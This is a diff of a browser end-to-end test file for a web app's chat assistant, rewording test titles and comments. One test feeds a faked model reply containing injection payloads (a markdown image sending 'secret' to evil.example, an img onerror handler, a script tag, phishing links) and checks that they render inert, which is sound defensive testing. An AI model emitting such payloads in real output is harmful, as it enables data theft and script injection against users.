@@ -27,7 +27,7 @@ afterAll(async () => {
   await product?.stop()
 })
 
-/** Another page of a signed-in user without a conversation. */
+/** Opens a page for a signed-in user without a conversation. */
 async function openDashboard(person: Person, { url, database }: Product) {
   await rowsOf(database.ownerUrl, 'delete from chat_messages')
   const tab = await person.openPage()
@@ -46,7 +46,7 @@ const isAtEnd = () =>
 async function violationsIn(target: Page, within: string): Promise<string[]> {
   return (await violationsOf(target, { within })).map(({ id, html }) => `${id}: ${html}`)
 }
-/** Sends the window event, as any part of a page can. */
+/** Dispatches the window event that opens or closes the panel. */
 const sendEvent = (detail?: { open: boolean }) =>
   page.evaluate((open) => void window.dispatchEvent(new CustomEvent('open-chat', { detail: open })), detail)
 
@@ -100,10 +100,10 @@ describe('A22 the assistant', () => {
     expect(await field.inputValue()).toBe('')
   })
 
-  test('shows Thinking... and accepts no input meanwhile; each message scrolls to the end', async () => {
+  test('shows Thinking... and disables the input while it waits, and scrolls to the end with each message', async () => {
     await askAboutScores()
     const { promise: gate, resolve: openGate } = Promise.withResolvers<void>()
-    // The response is real but delayed, so that the test can check the state before it.
+    // Delays the real response, so that the test can check the waiting state.
     await page.route('**/api/chat', async (route) => {
       await gate
       await route.continue()
@@ -139,7 +139,7 @@ describe('A22 the assistant', () => {
     await panel.waitFor({ state: 'hidden' })
   })
 
-  test('answers whom to call with links to them', async () => {
+  test('answers whom to call with links to the contacts', async () => {
     await openPanel()
     await panel.getByRole('button', { name: 'Who should I call this week?' }).click()
     await log().getByText('Call these first').waitFor()
@@ -201,7 +201,7 @@ describe('A22 the assistant', () => {
     expect([box?.x, box?.width, (box?.y ?? 0) + (box?.height ?? 0)]).toEqual([0, 390, 844])
   })
 
-  test.each(['light', 'dark'])('A33 has no accessibility faults in the %s theme', async (theme) => {
+  test.each(['light', 'dark'])('A33 has no accessibility violations in the %s theme', async (theme) => {
     await askAboutScores()
     await page.evaluate((value) => {
       document.documentElement.dataset.theme = value
@@ -282,7 +282,7 @@ describe('A22 the assistant with a connected model', () => {
     expect(await partialReply.count()).toBe(0)
   })
 
-  test('Trust 15 shows an attack as text that runs and requests nothing', async () => {
+  test('Trust 15 shows injected markup as text that runs no script and sends no request', async () => {
     fake.answer(
       'Steps. ![x](https://evil.example/p.png?d=secret) <img src="https://evil.example/i" onerror="alert(document)"> <script>alert(document)</script> See [the plan](https://evil.example/login) or evil.com/pay.',
     )
@@ -298,7 +298,7 @@ describe('A22 the assistant with a connected model', () => {
     expect(foreignRequests).toEqual([])
   })
 
-  test('shows the template answer instead of an invented figure or no answer', async () => {
+  test('shows the template answer when the model invents a number or fails', async () => {
     fake.answer('Call everybody. It works in 97 percent of cases.')
     await ask('Who should I call this week?')
     await chatLog().getByText('Call these first').waitFor()
@@ -310,7 +310,7 @@ describe('A22 the assistant with a connected model', () => {
   })
 })
 
-test('A37 the free account page explains it and opens the sign-in dialog', async () => {
+test('A37 the free account page explains the account and opens the sign-in dialog', async () => {
   const visitor = await browser.newPerson()
   const response = await visitor.page.request.get(`${product.url}/free-signup`)
   expect(await response.text()).toContain('Start with a free account')
